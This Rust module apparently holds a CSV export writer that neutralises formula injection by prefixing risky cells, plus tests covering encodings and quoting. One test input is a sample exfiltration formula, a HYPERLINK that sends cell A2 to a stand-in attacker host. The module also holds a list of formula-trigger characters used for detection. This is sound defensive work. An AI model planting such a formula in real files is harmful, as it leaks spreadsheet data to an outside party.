//! The one CSV writer every export uses, so that no file we hand out can run a formula in the
//! spreadsheet that opens it (CSV injection, as OWASP describes it).
//!
//! A text cell whose first character other than spaces is `=`, `+`, `-`, `@`, a tab or a carriage
//! return, or a full-width `＝＋－＠` (which Japanese spreadsheets also read as operators), gets a
//! leading `'`, which makes the spreadsheet treat it as text. Numbers are written through
//! [`Cell::Number`] and are never prefixed, so `-1200` stays a number a customer can add up.
//! Quoting follows RFC 4180 (only where needed). A line that cannot be written in the file's
//! encoding refuses the line, never replaces a character.

use std::borrow::Cow;

use encoding_rs::SHIFT_JIS;

/// Leading characters that make a spreadsheet read a cell as a formula or hide one.
const FORMULA_STARTS: [char; 10] = [
    '=', '+', '-', '@', '\t', '\r', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}',
];

/// Spaces a spreadsheet skips before it looks for a formula.
const LEADING_SPACES: [char; 2] = [' ', '\u{3000}'];

/// Whether a spreadsheet could take `cell` for a formula.
pub fn looks_like_formula(cell: &str) -> bool {
    cell.trim_start_matches(LEADING_SPACES)
        .starts_with(FORMULA_STARTS)
}

/// `cell` as a spreadsheet will show it as text: with a leading `'` when it could be taken for
/// a formula, otherwise unchanged.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    if looks_like_formula(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// The text [`neutralise`] was given, for reading back a file we wrote: the `'` is removed only
/// where `neutralise` would have added it.
pub fn restore(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if looks_like_formula(rest) => rest,
        _ => cell,
    }
}

/// One cell of a line.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Cell<'a> {
    /// Text, neutralised if it could be taken for a formula.
    Text(&'a str),
    /// A whole number (yen, counts, sequence numbers), written as digits, sign included.
    Number(i64),
}

/// The character encoding of a file.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Encoding {
    /// UTF-8 without a byte-order mark.
    Utf8,
    /// UTF-8 with a byte-order mark, by which Excel recognises UTF-8.
    Utf8WithBom,
    /// Shift_JIS (the Windows-31J repertoire), for older Japanese tools.
    ShiftJis,
}

/// How lines end.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum LineEnd {
    /// `\n`.
    Lf,
    /// `\r\n`, as RFC 4180 and Excel write.
    CrLf,
}

/// Why a line could not be written.
#[derive(Debug, thiserror::Error)]
pub enum CsvError {
    /// A value has no form in Shift_JIS.
    #[error("a value cannot be written in Shift_JIS")]
    Unencodable,
    /// The CSV encoder failed.
    #[error(transparent)]
    Write(#[from] ::csv::Error),
}

impl crate::fault::Classify for CsvError {
    fn fault(&self) -> crate::fault::Fault {
        match self {
            CsvError::Unencodable => crate::fault::Fault::Invalid,
            CsvError::Write(_) => crate::fault::Fault::Internal,
        }
    }
}

/// A file being written line by line, already in its encoding.
pub struct Writer {
    encoding: Encoding,
    builder: ::csv::WriterBuilder,
    bytes: Vec<u8>,
}

impl Writer {
    /// An empty file (holding only the byte-order mark, if the encoding has one).
    pub fn new(encoding: Encoding, line_end: LineEnd) -> Self {
        let mut builder = ::csv::WriterBuilder::new();
        if line_end == LineEnd::CrLf {
            builder.terminator(::csv::Terminator::CRLF);
        }
        let bytes = match encoding {
            Encoding::Utf8WithBom => "\u{FEFF}".as_bytes().to_vec(),
            Encoding::Utf8 | Encoding::ShiftJis => Vec::new(),
        };
        Self {
            encoding,
            builder,
            bytes,
        }
    }

    /// Adds a line; on error the file is as it was before.
    pub fn record<'c>(
        &mut self,
        cells: impl IntoIterator<Item = Cell<'c>>,
    ) -> Result<(), CsvError> {
        let fields: Vec<Cow<'c, str>> = cells
            .into_iter()
            .map(|cell| match cell {
                Cell::Text(text) => neutralise(text),
                Cell::Number(n) => Cow::Owned(n.to_string()),
            })
            .collect();
        let mut line = Vec::new();
        {
            let mut writer = self.builder.from_writer(&mut line);
            writer.write_record(fields.iter().map(|f| f.as_bytes()))?;
            writer.flush().map_err(::csv::Error::from)?;
        }
        match self.encoding {
            Encoding::Utf8 | Encoding::Utf8WithBom => self.bytes.extend_from_slice(&line),
            Encoding::ShiftJis => {
                let text = String::from_utf8_lossy(&line);
                let (encoded, _, unmappable) = SHIFT_JIS.encode(&text);
                if unmappable {
                    return Err(CsvError::Unencodable);
                }
                self.bytes.extend_from_slice(&encoded);
            }
        }
        Ok(())
    }

    /// Adds a line of text cells, such as a header.
    pub fn text_record<S: AsRef<str>>(
        &mut self,
        cells: impl IntoIterator<Item = S>,
    ) -> Result<(), CsvError> {
        let cells: Vec<S> = cells.into_iter().collect();
        self.record(cells.iter().map(|c| Cell::Text(c.as_ref())))
    }

    /// The file.
    pub fn into_bytes(self) -> Vec<u8> {
        self.bytes
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn text(w: Writer) -> String {
        String::from_utf8(w.into_bytes()).unwrap()
    }

    #[test]
    fn cells_a_spreadsheet_would_run_are_prefixed() {
        for (raw, shown) in [
            (
                "=HYPERLINK(\"http://evil.example/?\"&A2,\"x\")",
                "'=HYPERLINK(\"http://evil.example/?\"&A2,\"x\")",
            ),
            ("+81", "'+81"),
            ("-1", "'-1"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            ("  =1+1", "'  =1+1"),
            ("\u{3000}=1+1", "'\u{3000}=1+1"),
            ("\u{FF1D}SUM(A1)", "'\u{FF1D}SUM(A1)"),
            ("\u{FF0B}1", "'\u{FF0B}1"),
            ("\u{FF0D}1", "'\u{FF0D}1"),
            ("\u{FF20}A1", "'\u{FF20}A1"),
            ("-", "'-"),
        ] {
            assert_eq!(neutralise(raw), shown, "{raw:?}");
            assert_eq!(restore(&neutralise(raw)), raw, "{raw:?}");
        }
    }

    #[test]
    fn ordinary_text_is_left_alone() {
        for raw in [
            "山田 =太郎",
            "a-b",
            "1200",
            "",
            "   ",
            "'quoted",
            "2026-11-21",
            "x@example.jp",
        ] {
            assert_eq!(neutralise(raw), raw, "{raw:?}");
            assert_eq!(restore(raw), raw, "{raw:?}");
        }
    }

    #[test]
    fn numbers_are_written_as_numbers_even_when_negative() {
        let mut w = Writer::new(Encoding::Utf8, LineEnd::Lf);
        w.record([Cell::Text("-1200"), Cell::Number(-1200), Cell::Number(5)])
            .unwrap();
        assert_eq!(text(w), "'-1200,-1200,5\n");
    }

    #[test]
    fn quoting_bom_and_line_ends_follow_the_encoding_asked_for() {
        let mut w = Writer::new(Encoding::Utf8WithBom, LineEnd::CrLf);
        w.text_record(["氏名", "メール"]).unwrap();
        w.text_record(["=1+1", "a,\"b\"@example.jp"]).unwrap();
        w.text_record(["二行の\nメモ", ""]).unwrap();
        assert_eq!(
            text(w),
            "\u{FEFF}氏名,メール\r\n'=1+1,\"a,\"\"b\"\"@example.jp\"\r\n\"二行の\nメモ\",\r\n"
        );
        let mut plain = Writer::new(Encoding::Utf8, LineEnd::Lf);
        plain.text_record(["seq", "actor"]).unwrap();
        assert_eq!(text(plain), "seq,actor\n");
    }

    #[test]
    fn shift_jis_refuses_a_line_it_cannot_hold_and_keeps_the_rest() {
        let mut w = Writer::new(Encoding::ShiftJis, LineEnd::CrLf);
        w.text_record(["顧客番号", "氏名"]).unwrap();
        for name in ["𠮷田", "山田 😀", "Zoë"] {
            assert!(
                matches!(w.text_record(["1", name]), Err(CsvError::Unencodable)),
                "{name}"
            );
        }
        w.text_record(["1", "髙橋 ①子"]).unwrap();
        let bytes = w.into_bytes();
        assert!(
            !bytes.starts_with(&[0xEF, 0xBB, 0xBF]),
            "no byte-order mark"
        );
        let (decoded, had_errors) = SHIFT_JIS.decode_without_bom_handling(&bytes);
        assert!(!had_errors);
        assert_eq!(decoded, "顧客番号,氏名\r\n1,髙橋 ①子\r\n");
    }
}
